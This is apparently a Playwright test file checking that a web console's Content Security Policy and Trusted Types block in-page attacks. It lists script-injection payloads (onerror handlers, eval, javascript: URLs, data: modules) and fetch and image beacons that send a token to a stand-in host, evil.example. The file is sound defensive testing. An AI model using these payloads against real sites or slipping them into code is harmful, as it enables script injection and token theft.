// What code in the page can't do, anyone who wrote it: each attempt is made by the page itself, fails, and is a violation of
// the page's policy.
import type { Page } from "@playwright/test";
import { heading } from "../support/console.ts";
import { expect, test } from "../support/test.ts";

/** What an attempt came to: what it threw, and what the policy said of it. */
interface Refusal {
  thrown: string;
  directive: string;
}

/** Attempts, by the directive that forbids them, as the page makes them. None may set `ran`, or leave the page. */
const attempts: { name: string; directive: RegExp; thrown?: RegExp; attempt: () => unknown }[] = [
  {
    name: "markup with a handler",
    directive: /^require-trusted-types-for$/,
    thrown: /^TypeError/,
    attempt: () => (document.body.innerHTML = "<img src=x onerror='document.title = `ran`'>"),
  },
  {
    name: "markup with a script, beside an element",
    directive: /^require-trusted-types-for$/,
    thrown: /^TypeError/,
    attempt: () => document.body.insertAdjacentHTML("beforeend", "<script>document.title = `ran`</script>"),
  },
  {
    name: "a whole document in a frame",
    directive: /^require-trusted-types-for$/,
    thrown: /^TypeError/,
    attempt: () =>
      Object.assign(document.createElement("iframe"), { srcdoc: "<script>parent.document.title = `ran`</script>" }),
  },
  {
    name: "a document that is written again",
    directive: /^require-trusted-types-for$/,
    thrown: /^TypeError/,
    attempt: () => document.write("<script>document.title = `ran`</script>"),
  },
  {
    name: "the text of a script",
    directive: /^require-trusted-types-for$/,
    thrown: /^TypeError/,
    attempt: () => (document.createElement("script").text = "document.title = `ran`"),
  },
  {
    name: "the address of a script, be it the console's own",
    directive: /^require-trusted-types-for$/,
    thrown: /^TypeError/,
    attempt: () => (document.createElement("script").src = document.scripts[1]?.src ?? "/"),
  },
  {
    name: "a handler as an attribute",
    directive: /^require-trusted-types-for$/,
    thrown: /^TypeError/,
    attempt: () => document.body.setAttribute("onclick", "document.title = `ran`"),
  },
  {
    name: "eval",
    directive: /^(require-trusted-types-for|script-src)$/,
    thrown: /^EvalError/,
    attempt: () => (0, eval)("document.title = `ran`"),
  },
  {
    name: "a function of text",
    directive: /^(require-trusted-types-for|script-src)$/,
    thrown: /^EvalError/,
    attempt: () => new Function("document.title = `ran`")(),
  },
  {
    name: "a timer of text",
    directive: /^(require-trusted-types-for|script-src)$/,
    thrown: /^TypeError/,
    attempt: () => setTimeout("document.title = `ran`", 0),
  },
  {
    name: "a worker",
    directive: /^(require-trusted-types-for|worker-src)$/,
    thrown: /^TypeError/,
    attempt: () => new Worker("/config.json"),
  },
  {
    name: "another policy for markup",
    directive: /^trusted-types$/,
    thrown: /^TypeError/,
    attempt: () => window.trustedTypes.createPolicy("other", { createHTML: (text: string) => text }),
  },
  {
    name: "the same policy again",
    directive: /^trusted-types$/,
    thrown: /^TypeError/,
    attempt: () => window.trustedTypes.createPolicy("default", { createHTML: (text: string) => text }),
  },
  {
    name: "a file of the console as another module",
    directive: /^script-src-elem$/,
    thrown: /^TypeError/,
    attempt: () => import(`${document.scripts[1]?.src}?again`),
  },
  {
    name: "a module of text",
    directive: /^script-src-elem$/,
    thrown: /^TypeError/,
    attempt: () => import(`data:text/javascript,document.title = "ran"`.trim()),
  },
  {
    name: "an address that is a script",
    directive: /^(require-trusted-types-for|script-src-elem)$/,
    attempt: () => {
      location.href = "javascript:document.title = `ran`";
    },
  },
  {
    name: "style as an attribute",
    directive: /^style-src-attr$/,
    attempt: () => document.body.setAttribute("style", "display: none"),
  },
  {
    name: "an element of style",
    directive: /^style-src-elem$/,
    attempt: () => document.head.append(Object.assign(document.createElement("style"), { textContent: "body { color: red }" })),
  },
  {
    name: "a call to another host",
    directive: /^connect-src$/,
    thrown: /^TypeError/,
    attempt: () => fetch("https://evil.example/?token"),
  },
  {
    name: "a picture of another host",
    directive: /^img-src$/,
    attempt: () => (new Image().src = "https://evil.example/?token"),
  },
  {
    name: "a frame",
    directive: /^frame-src$/,
    attempt: () => document.body.append(Object.assign(document.createElement("iframe"), { src: "https://evil.example/" })),
  },
  {
    name: "a plug-in",
    directive: /^require-trusted-types-for$/,
    thrown: /^TypeError/,
    attempt: () => Object.assign(document.createElement("object"), { data: "/config.json" }),
  },
  {
    name: "another base for addresses",
    directive: /^base-uri$/,
    attempt: () => document.head.append(Object.assign(document.createElement("base"), { href: "https://evil.example/" })),
  },
];

declare global {
  interface Window {
    trustedTypes: { createPolicy(name: string, rules: object): unknown };
  }
}

/** What the page's own code gets for an attempt. What the browser's tools run is free to use `eval`, so a timer runs it. */
async function refusal(page: Page, attempt: () => unknown): Promise<Refusal> {
  await page.evaluate(
    `globalThis.refused = new Promise((resolve) => {
      let thrown = "";
      addEventListener("securitypolicyviolation", (event) => {
        queueMicrotask(() => setTimeout(() => resolve({ thrown, directive: event.effectiveDirective })));
      }, { once: true });
      setTimeout(async () => {
        try {
          await (${attempt.toString()})();
        } catch (error) {
          thrown = String(error);
        }
      });
    }); 0`,
  );
  return page.evaluate("globalThis.refused");
}

test("code in the page can't do what its policy forbids, and the console goes on", async ({ page, faults }) => {
  const answer = await page.goto("/organizations");
  await expect(heading(page, "Sign in")).toBeVisible();
  // Behind a web server the policy is there twice, in the page and in the answer, and each tells of its own.
  const policies = (await answer?.headerValue("content-security-policy"))?.includes("script-src") ? 2 : 1;
  const title = await page.title();
  for (const { name, directive, thrown, attempt } of attempts) {
    await test.step(name, async () => {
      const refused = await refusal(page, attempt);
      expect.soft(refused.directive, name).toMatch(directive);
      expect.soft(refused.thrown, name).toMatch(thrown ?? /^$/);
      expect.soft(await page.title(), name).toBe(title);
    });
  }
  await page.getByLabel("Account", { exact: true }).fill("still there");
  // What the browser says of it on its console is what the test is about.
  const told = faults.filter((fault) => fault.startsWith("console: Content-Security-Policy"));
  expect(told).toHaveLength(policies * attempts.length);
  faults.length = 0;
});

test("a form can't be sent, to wherever", async ({ page, faults }) => {
  await page.goto("/organizations");
  await expect(heading(page, "Sign in")).toBeVisible();
  let sent = 0;
  page.on("response", (response) => {
    sent += new URL(response.url()).pathname === "/sent" ? 1 : 0;
  });
  await page.evaluate(() => {
    const form = Object.assign(document.createElement("form"), { method: "post", action: "/sent" });
    document.body.append(form);
    form.submit();
  });
  await expect.poll(() => faults.join("\n")).toContain("form-action");
  expect(sent).toBe(0);
  faults.length = 0;
});

for (const { file, path, extra } of [
  // A section that any program may have, and no browser looks at.
  { file: "the program", path: "**/*.wasm", extra: Buffer.from([0, 2, 1, 120]) },
  { file: "the module", path: "**/*.js", extra: Buffer.from("\n;") },
  { file: "the style sheet", path: "**/*.css", extra: Buffer.from("\n") },
]) {
  test(`${file} of another build is not used, be it as good as this one's`, async ({ page, faults }) => {
    await page.route(path, async (route) => {
      const response = await route.fetch();
      await route.fulfill({ response, body: Buffer.concat([await response.body(), extra]) });
    });
    await page.goto("/organizations");
    await expect(page.locator("#no-start")).toBeVisible();
    await expect(page.locator("#no-start pre")).toContainText(path.slice(4));
    await expect(heading(page, "Sign in")).toHaveCount(0);
    faults.length = 0;
  });
}
